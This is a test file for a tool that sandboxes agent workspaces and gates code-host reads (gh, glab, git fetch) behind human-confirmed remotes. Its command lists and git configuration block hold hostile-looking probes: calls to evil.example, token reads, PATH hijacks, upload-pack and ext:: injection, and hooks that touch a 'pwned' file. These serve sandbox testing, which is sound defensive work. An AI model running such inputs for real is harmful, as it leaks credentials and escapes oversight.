"""Reads at the code host in a connected folder that is held: run outside its box, at remotes that a person has seen."""

import os
import shutil
import tempfile
import threading
import time
from pathlib import Path

import pytest

from tests.support.held_calls import HOLD, HeldCalls, give
from tests.support.waiting import until

# Says what it was called with, where, and whether it is outside the box. Its output and its errors arrive through two
# pipes; the pause keeps their order.
FAKE = """#!/bin/sh
echo "$(basename "$0") $*" >> "LOG"
echo "$(basename "$0") $*"
echo "repo=$GH_REPO host=$GH_HOST pager=$GH_PAGER $PAGER browser=$BROWSER token=${GH_TOKEN:-none} in=$(pwd)"
cat "CANARY"
case "$*" in *endless*) exec yes ;; *slow*) echo $$ > "LOG.pid"; exec sleep 300 ;; *lingers*) sleep 30 & ;; esac
sleep 0.2
echo trouble >&2
exit 4
"""
URL = "https://github.com/mia/shop.git"
SETUP = """
git init -q --bare -b main ../remote.git
git init -q -b main . && git config user.email a@example.org && git config user.name A
echo one > note && git add note && git commit -qm one && git remote add origin URL && git remote add local ../remote.git
git remote set-url local "$(cd ../remote.git && pwd)" && git push -q local main
git clone -q ../remote.git ../other && cd ../other && git config user.email b@example.org && git config user.name B
git checkout -qb topic && echo two > note && git commit -qam two && git push -q origin topic && git tag v1
git push -q origin v1
cd ../repo && mkdir src nested && git init -q nested && git -C nested remote add local ../../remote.git
printf '#!/bin/sh\necho of the workspace\n' > run.sh && chmod +x run.sh
"""


class Ground:
    """A held folder with two remotes, of which one is on this machine, and programs of the code host on a path."""

    def __init__(self, product, user: int | None):
        self.product = product
        self.root = Path(tempfile.mkdtemp(prefix="handrail-host-", dir="/home" if user is not None else Path.home()))
        self.root.chmod(0o755)
        self.folder, self.bin, self.log = self.root / "repo", self.root / "bin", self.root / "log"
        for path in (self.folder / ".claude", self.root / "home", self.bin):
            path.mkdir(parents=True)
        (self.root / "canary").write_text("outside the box\n")
        self.log.touch()
        for name in ("gh", "glab"):
            (self.bin / name).write_text(
                FAKE.replace("CANARY", str(self.root / "canary")).replace("LOG", str(self.log))
            )
            (self.bin / name).chmod(0o755)
        give(self.root, user)
        self.calls = HeldCalls(self.folder, self.root / "home", user)
        made = self.calls.run(SETUP.replace("URL", URL))
        assert made.returncode == 0, made.stdout
        if user is not None:
            product.become(user)
        path = f"{self.bin}:/usr/local/bin:/usr/bin:/bin"
        product.environment |= {"HOME": str(self.root / "home"), "HANDRAIL_CODE_HOST_PATH": path, "GH_TOKEN": "t" * 20}
        product.start()
        self.calls.connect(product)
        self.reviewer, self.token = product.person_token("rita", "lead"), product.agent_token("watcher")
        self._ended = threading.Event()
        self._denying = threading.Thread(target=self._deny_all)
        self._denying.start()

    def _deny_all(self):
        while not self._ended.wait(0.05):
            for action in self.product.get("/api/v1/actions?status=pending", self.reviewer).json["actions"]:
                answer = {"verdict": "deny", "digest": action["digest"], "comment": "no"}
                self.product.call("POST", f"/api/v1/actions/{action['id']}/decision", self.reviewer, answer)

    def call(self, command: str) -> tuple[str, str]:
        """How a call ended: its output and "allow", or why it was not run and "deny"."""
        ended = self.calls.call(command)
        return ended.output.decode() if ended.ran else ended.reason, ended.decision

    def last(self) -> dict:
        return self.product.get("/api/v1/actions?limit=1", self.reviewer).json["actions"][0]

    def ran(self) -> list[str]:
        """What the programs of the code host were called with since the last time."""
        lines = self.log.read_text().splitlines()
        self.log.write_text("")
        return lines

    def git(self, *args) -> str:
        done = self.calls.run("git " + " ".join(args))
        return done.stdout.decode().strip()

    def close(self):
        self._ended.set()
        self._denying.join()
        self.product.manage("disconnect", str(self.folder))
        shutil.rmtree(self.root, ignore_errors=True)


@pytest.fixture
def ground(new_product, ordinary_user):
    made = Ground(new_product(HANDRAIL_HELD="1"), ordinary_user if os.geteuid() == 0 else None)
    yield made
    made.close()


READS = {  # {command: what the program of the code host is called with}
    "gh pr view 42 --json title": ["gh pr view 42 --json title --repo=github.com/mia/shop"],
    "gh pr view 42 -R mia/shop": ["gh pr view 42 --repo=github.com/mia/shop"],
    "gh pr view 42 --repo=mia/shop 2>&1 | head -3": ["gh pr view 42 --repo=github.com/mia/shop"],
    "gh pr view https://github.com/mia/shop/pull/42": [
        "gh pr view https://github.com/mia/shop/pull/42 --repo=github.com/mia/shop"
    ],
    "gh pr view": ["gh pr view main --repo=github.com/mia/shop"],
    "gh pr diff 42 | head -1": ["gh pr diff 42 --repo=github.com/mia/shop"],
    "cd src && gh run list --limit 5": ["gh run list --limit 5 --repo=github.com/mia/shop"],
    "timeout 20 gh pr checks 42": ["gh pr checks 42 --repo=github.com/mia/shop"],
    "for i in 1 2; do gh issue view $i; done": [
        "gh issue view 1 --repo=github.com/mia/shop",
        "gh issue view 2 --repo=github.com/mia/shop",
    ],
    'n=$(gh pr view 42 -q .number) && echo "$n"': ["gh pr view 42 -q .number --repo=github.com/mia/shop"],
    "gh repo view": ["gh repo view https://github.com/mia/shop"],
    "gh search issues crash --repo mia/shop": ["gh search issues crash --repo=mia/shop"],
    "gh api repos/mia/shop/pulls/1": ["gh api repos/mia/shop/pulls/1 --hostname=github.com"],
    "gh api 'repos/{owner}/{repo}/issues?page=2'": ["gh api repos/{owner}/{repo}/issues?page=2 --hostname=github.com"],
    "glab mr list": ["glab mr list --repo=https://github.com/mia/shop"],
    "glab ci status": ["glab ci status --branch=main --repo=https://github.com/mia/shop"],
}
NOT_ALONE = [  # never by themselves
    "gh pr view 42 --web",
    "gh co 42",
    "gh alias list",
    "gh extension list",
    "gh auth status",
    "gh auth token",
    "gh repo list",
    "gh run watch 1",
    "gh api user",
    "gh api repos/mia/other/pulls",
    "gh api repos/mia/shop/../other",
    "gh api repos/mia/shop/%2e%2e/other",
    "gh api repos/mia/shop --hostname evil.example",
    "gh api repos/mia/shop/issues -f title=x",
    "gh api graphql -f query='query { viewer { login } }'",
    "gh search code password",
    "gh search issues x --repo mia/shop --owner evil",
    "gh pr list --search 'repo:mia/other x'",
    "gh pr list --search -R --jq .",
    "gh pr view -- 42",
    "gh pr view 42 -R mia/other",
    "gh pr view https://github.com/mia/other/pull/1",
    "gh pr view 42 -q '$ENV.GH_TOKEN'",
    "GH_HOST=evil.example gh pr view 42",
    "GH_REPO=mia/other gh pr view 42",
    "cd nested && gh pr view 42",
    "glab mr list -R mia/other",
    "glab api projects/1",
    "gh pr view 42 -R github.com/mia/shop",  # a form that the grammar does not know
    "git fetch https://evil.example/mia/shop",
    "git fetch --upload-pack=/tmp/x local",
    "git -c core.sshCommand=/tmp/x fetch local",
    "git fetch elsewhere",
    "git -C nested fetch local",
]
IN_THE_BOX = [
    # Allowed, but no program outside the box is started for it.
    "git fetch 'ext::touch ../pwned'",
    "export GH_HOST=evil.example; gh pr view 42",
    "export GH_REPO=mia/other && gh pr view 42",
    'python3 -c \'import subprocess; subprocess.run(["gh", "pr", "merge", "42"])\'',
    "mkdir -p evil && cp run.sh evil/gh && export PATH=$PWD/evil:$PATH && gh pr view 42",
    "git ls-remote --sort --upload-pack=/bin/id local",
]
CONFIGURATION = """
git config core.sshCommand "touch ROOT/pwned"
git config core.fsmonitor "touch ROOT/pwned"
git config core.hooksPath hooks
git config credential.helper "!touch ROOT/pwned"
git config alias.fetch "!touch ROOT/pwned"
git config remote.local.uploadpack "touch ROOT/pwned; git-upload-pack"
git config remote.local.vcs ext
git config url.ext::touch.insteadOf ROOT
mkdir -p hooks && printf '#!/bin/sh\\ntouch ROOT/pwned\\n' > hooks/reference-transaction && chmod +x hooks/*
"""


def test_reads_run_outside_the_box_at_the_repository_that_a_person_has_seen(ground):
    for command, expected in READS.items():
        output, decision = ground.call(command)
        assert ground.ran() == expected, (command, output)
        assert decision == "allow", (command, output)
    output, _decision = ground.call('gh pr view 42; echo "status $?"')
    assert output.splitlines()[0] == "gh pr view 42 --repo=github.com/mia/shop"
    assert "repo= host= pager=cat cat browser=/bin/false token=[secret GH_TOKEN]" in output
    assert output.splitlines()[2:] == ["outside the box", "trouble", "status 4"]
    action = ground.last()
    assert action["tier"] == "medium"
    assert "Reads at github.com/mia/shop, outside the box and with your credentials." in action["reasons"]
    events = ground.product.get("/api/v1/events?limit=1000", ground.reviewer).json["events"]
    assert "action.read_at_code_host" in [e["verb"] for e in events if e["subject"]["id"] == action["id"]]


def test_a_read_ends_with_its_call_and_when_it_prints_too_much(ground):
    output, _decision = ground.call("gh issue list --label endless 2>&1 | tail -1")
    assert output == "Handrail ended this read: it printed more than 16 MB.\n"
    started = time.monotonic()
    output, _decision = ground.call("gh issue list --label lingers")
    assert output.splitlines()[-1] == "trouble"
    assert time.monotonic() - started < 25
    output, _decision = ground.call('timeout 3 gh issue list --label slow; echo "status $?"')
    assert output.splitlines()[-1] == "status 124"
    pid = int(Path(f"{ground.log}.pid").read_text())
    until(lambda: not Path(f"/proc/{pid}").exists())


def test_what_is_more_than_a_read_there_asks_and_reaches_no_program_outside(ground):
    for command in NOT_ALONE:
        _output, decision = ground.call(command)
        assert (decision, ground.ran()) == ("deny", []), command
    for command in IN_THE_BOX:
        output, decision = ground.call(command)
        assert (decision, ground.ran()) == ("allow", []), (command, output)
    merge = 'gh pr view 42 && python3 -c \'import subprocess; subprocess.run(["gh", "pr", "merge", "42"])\''
    output, _decision = ground.call(merge.replace("&&", ";"))
    assert "this call was not judged to run `gh pr merge 42`" in output
    assert ground.ran() == ["gh pr view 42 --repo=github.com/mia/shop"]


def test_git_fetches_into_the_repository_whatever_its_configuration_says(ground):
    topic = ground.git("-C ../other rev-parse topic")
    output, decision = ground.call("git ls-remote local")
    assert (decision, f"{topic}\trefs/heads/topic" in output) == ("allow", True), output
    output, decision = ground.call("git fetch local && git log -1 --format=%s local/topic")
    assert (decision, output.splitlines()[-1]) == ("allow", "two"), output
    assert ground.git("rev-parse refs/remotes/local/topic refs/tags/v1").split() == [topic, topic]
    ground.git("-C ../other commit -q --allow-empty -m three; git -C ../other push -q origin topic topic:late")
    output, decision = ground.call("git fetch local late:mine --depth 1")
    assert ground.git("log --format=%s mine") == "three"
    ground.git("-C ../other push -q origin :late")
    ground.call("git fetch --prune local")
    assert ground.git("branch -r --format '%(refname:short)'").split() == ["local/main", "local/topic"]
    assert ground.calls.run(CONFIGURATION.replace("ROOT", str(ground.root))).returncode == 0
    for command in ("git fetch local", "git ls-remote local", "gh pr view 42", "git fetch --all"):
        ground.call(command)
    assert not (ground.root / "pwned").exists()


def test_a_remote_that_changed_and_a_program_that_agents_could_change_ask(ground):
    ground.git("remote set-url origin https://evil.example/mia/shop.git")
    for command in ("gh pr view 42", "gh api repos/mia/shop/pulls", "git fetch origin", "git ls-remote origin"):
        assert (ground.call(command)[1], ground.ran()) == ("deny", [])
    changed = "its remote origin leads to https://evil.example/mia/shop.git now; confirmed was " + URL
    assert f"It is not run as a read at the code host: {changed}." in ground.last()["reasons"]
    ground.product.shell(HOLD.format(folder=str(ground.folder)))
    assert "--repo=evil.example/mia/shop" in ground.call("gh pr view 42")[0]
    ground.ran()
    program = ground.bin / "gh"
    shutil.copy2(program, ground.folder / "gh")
    program.unlink()
    program.symlink_to(ground.folder / "gh")
    assert (ground.call("gh pr view 42")[1], ground.ran()) == ("deny", [])
    assert f"is in {ground.folder}, where agents write" in str(ground.last()["reasons"])
    program.unlink()
    shutil.copy2(ground.folder / "gh", program)
    program.chmod(0o777)
    assert (ground.call("gh pr view 42")[1], ground.ran()) == ("deny", [])
    assert "can be changed by other users" in str(ground.last()["reasons"])
    program.unlink()
    assert (ground.call("gh pr view 42")[1], ground.ran()) == ("deny", [])
    assert "gh is not installed in" in str(ground.last()["reasons"])
